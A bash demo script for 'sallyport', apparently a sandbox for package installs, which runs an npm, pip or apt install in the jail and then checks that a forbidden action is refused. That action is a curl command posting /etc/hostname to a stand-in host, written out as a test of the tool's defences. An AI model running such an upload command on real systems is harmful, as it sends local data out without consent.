#!/bin/bash
# The main job, shown once: demo.sh PROGRAM. An install by the first package client of this machine runs in
# the jail, then something that no rule allows is tried, then the record of both is printed.
set -euo pipefail
cd "$(dirname "$0")/.."

sallyport=$(realpath "$1")
work=$PWD/build/demo
rm -rf "$work"
mkdir -p "$work/project"
cd "$work/project"

# preset, what it must leave behind, command
if command -v npm >/dev/null; then
	preset=npm made=node_modules/is-number command=(npm install --no-fund --no-audit --no-update-notifier is-number)
	echo '{ "name": "demo", "version": "1.0.0", "private": true }' >package.json
elif command -v pip >/dev/null; then
	preset=pip made=packages/six.py command=(pip install --disable-pip-version-check --target packages six)
else
	preset=apt made='hello_*.deb' command=(apt-get download hello)
fi

say() { printf '\n$ %s\n' "$*"; }

say sallyport run --use "$preset" --record ../record -- "${command[@]}"
"$sallyport" run --use "$preset" --record ../record -- "${command[@]}"
compgen -G "$made" >/dev/null || {
	echo "demo: the command ended well but left no $made" >&2
	exit 1
}

say sallyport run --use "$preset" --record ../refused -- curl -sS https://elsewhere.example/upload -d @/etc/hostname
status=0
"$sallyport" run --use "$preset" --record ../refused -- \
	curl -sS https://elsewhere.example/upload -d @/etc/hostname || status=$?

say sallyport log show ../record
"$sallyport" log show ../record
say sallyport log show ../refused
"$sallyport" log show ../refused
[ "$status" != 0 ] || grep -q '"verdict":"deny"' ../refused/*.jsonl || {
	echo "demo: what no rule allows was not refused" >&2
	exit 1
}
